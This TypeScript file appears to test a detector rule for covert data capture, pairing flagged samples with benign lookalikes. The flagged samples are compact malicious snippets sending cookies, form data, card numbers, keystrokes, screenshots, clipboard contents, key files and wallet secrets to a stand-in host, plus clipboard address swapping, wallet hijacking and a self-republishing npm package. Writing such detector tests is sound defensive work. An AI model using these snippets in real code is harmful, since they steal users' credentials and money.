import { testRule } from '../../../testing/rule-checks.ts';
import { covertCapture } from './covert-capture.ts';

testRule(covertCapture, {
  caught: [
    ...[
      ['cookies in the address of a picture', "new Image().src = 'https://in.example/c?c=' + document.cookie;\n"],
      [
        'every form of a page',
        "document.querySelectorAll('form').forEach((f) => f.addEventListener('submit', () => { const d = new FormData(f); navigator.sendBeacon('https://in.example/c', d); }));\n",
      ],
      [
        'cards',
        "const n = $('input[name=cc_number]')['val'](), c = $('input[name=cc_cvv]').val();\nconst w = new WebSocket('wss://in.example:8080/g');\nw.onopen = () => w.send(n + c);\n",
      ],
      [
        'addresses in the clipboard',
        "const { execSync } = require('child_process');\nsetInterval(() => { const c = execSync('powershell Get-Clipboard').toString(); if (/^(bc1|[13])[a-zA-Z0-9]{25,39}$/.test(c)) execSync('powershell Set-Clipboard bc1qxxxxxxxxxxxxxxxxxxxxxx'); }, 500);\n",
      ],
      [
        'the screen, again and again',
        "const s = require('screenshot-desktop'), a = require('axios');\nsetInterval(async () => a.post('https://in.example/u', await s()), 5000);\n",
      ],
      [
        'keys all over a home folder',
        "const fs = require('fs'), os = require('os');\nfunction walk(d) { for (const e of fs.readdirSync(d)) if (/\\.(env|pem|key)$/.test(e)) fetch('https://in.example/u', { method: 'POST', body: fs.readFileSync(d + e) }); else walk(d + e); }\nwalk(os.homedir());\n",
      ],
      [
        'a package that spreads',
        "const fs = require('fs'), { execSync } = require('child_process');\nconst p = JSON.parse(fs.readFileSync('package.json'));\np.name = 'n' + Math.random().toString(36);\nfs.writeFileSync('package.json', JSON.stringify(p));\nexecSync('npm publish --access public');\n",
      ],
    ].map(([of = '', text = '']) => ({
      of,
      files: { 'a.js': text },
      severity: 'critical' as const,
      permissions: null,
    })),
    {
      of: 'keys that Python hears',
      files: {
        'a.py':
          'from pynput import keyboard\nimport requests\nbuf = []\ndef on_press(key):\n    buf.append(str(key))\n    requests.post("https://in.example/k", json=buf)\nkeyboard.Listener(on_press=on_press).start()\n',
      },
      severity: 'critical',
    },
    {
      of: 'the clipboard',
      files: { 'a.py': 'import pyperclip, requests\nrequests.post("https://in.example/c", data=pyperclip.paste())\n' },
      severity: 'critical',
      says: 'clipboard',
    },
    {
      of: 'the screen, by way of a buffer',
      files: {
        'a.py':
          'from PIL import ImageGrab\nimport requests, io\nimg = ImageGrab.grab()\nb = io.BytesIO()\nimg.save(b, "PNG")\nrequests.post("https://in.example/s", files={"f": b.getvalue()})\n',
      },
      severity: 'critical',
      says: 'screen',
    },
    {
      of: 'a private key in an address',
      files: { 'a.js': "exports.load = (privateKey) => fetch('https://in.example/?k=' + privateKey);\n" },
      severity: 'critical',
    },
    {
      of: 'a secret key of an object, encoded',
      files: {
        'a.js':
          "const b = require('bs58');\nexports.load = (pair) => fetch('https://in.example', { method: 'POST', body: JSON.stringify({ k: b.encode(pair.secretKey) }) });\n",
      },
    },
    {
      of: 'a wallet that is replaced',
      files: {
        'a.js':
          'const old = window.ethereum.request;\nwindow.ethereum.request = async (ask) => { ask.params[0].to = "0x1"; return old(ask); };\n',
      },
    },
    {
      of: 'requests that are copied',
      files: {
        'a.js':
          "const f = window.fetch;\nwindow.fetch = async (...a) => { const r = await f(...a); navigator.sendBeacon('https://in.example', await r.clone().text()); return r; };\n",
      },
    },
    {
      of: 'keys that are pressed, collected',
      files: {
        'a.js':
          "let keys = '';\ndocument.addEventListener('keydown', (e) => { keys += e.key; fetch('https://in.example', { method: 'POST', body: keys }); });\n",
      },
    },
  ],
  silent: [
    ...[
      [
        'a form that goes to its own server',
        "const f = document.querySelector('form');\nf.addEventListener('submit', () => fetch('/api/save', { method: 'POST', body: new FormData(f) }));\n",
      ],
      [
        'cookies that are read',
        "const theme = /theme=(\\w+)/.exec(document.cookie);\nfetch('https://api.example/list');\n",
      ],
      ['a button that copies', "button.onclick = () => navigator.clipboard.writeText('npm i tool');\n"],
      [
        'a release',
        "const { execSync } = require('child_process');\npkg.version = next;\nrequire('fs').writeFileSync('package.json', JSON.stringify(pkg));\nexecSync('npm publish');\n",
      ],
      [
        'a folder of one’s own',
        "const fs = require('fs'), os = require('os');\nfor (const e of fs.readdirSync(os.homedir() + '/.tool')) console.log(fs.readFileSync(e, 'utf8'));\n",
      ],
    ].map(([of = '', text = '']) => ({ of, files: { 'a.js': text }, permissions: null })),
    {
      of: 'a picture and a text that stay here',
      files: {
        'a.py':
          'from PIL import ImageGrab\nimport pyperclip\nImageGrab.grab().save("shot.png")\nprint(pyperclip.paste())\n',
      },
    },
    {
      of: 'a key that ends a program',
      files: {
        'a.py':
          'from pynput import keyboard\ndef on_press(key):\n    return False\nkeyboard.Listener(on_press=on_press).start()\n',
      },
    },
    {
      of: 'a request that is signed',
      files: {
        'a.js':
          "const { sign } = require('crypto');\nexports.call = (privateKey, text) => fetch('https://api.example', { headers: { s: sign('sha256', text, privateKey) } });\n",
      },
    },
    {
      of: 'requests that are timed',
      files: {
        'a.js':
          'const f = globalThis.fetch;\nglobalThis.fetch = async (...a) => { console.time("x"); try { return await f(...a); } finally { console.timeEnd("x"); } };\n',
      },
    },
    {
      of: 'clicks that are counted',
      files: { 'a.js': "document.addEventListener('click', (e) => navigator.sendBeacon('/stats', e.target.id));\n" },
    },
    {
      of: 'a key that goes where the caller says',
      files: { 'a.js': "exports.restore = (client, mnemonic) => client.post('/restore', { mnemonic });\n" },
    },
  ],
});
